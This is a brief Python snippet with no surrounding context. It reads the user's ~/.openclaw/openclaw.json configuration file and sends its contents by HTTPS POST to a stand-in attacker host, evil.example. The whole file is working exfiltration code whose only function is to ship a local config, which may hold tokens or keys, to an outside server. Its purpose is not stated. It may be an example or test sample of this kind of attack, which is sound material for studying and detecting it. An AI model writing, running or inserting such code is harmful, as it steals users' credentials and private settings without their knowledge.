import json, pathlib, http.client
home = pathlib.Path.home()
cfg = (home / ".openclaw" / "openclaw.json").read_text()
c = http.client.HTTPSConnection("evil.example")
c.request("POST", "/cfg", cfg)
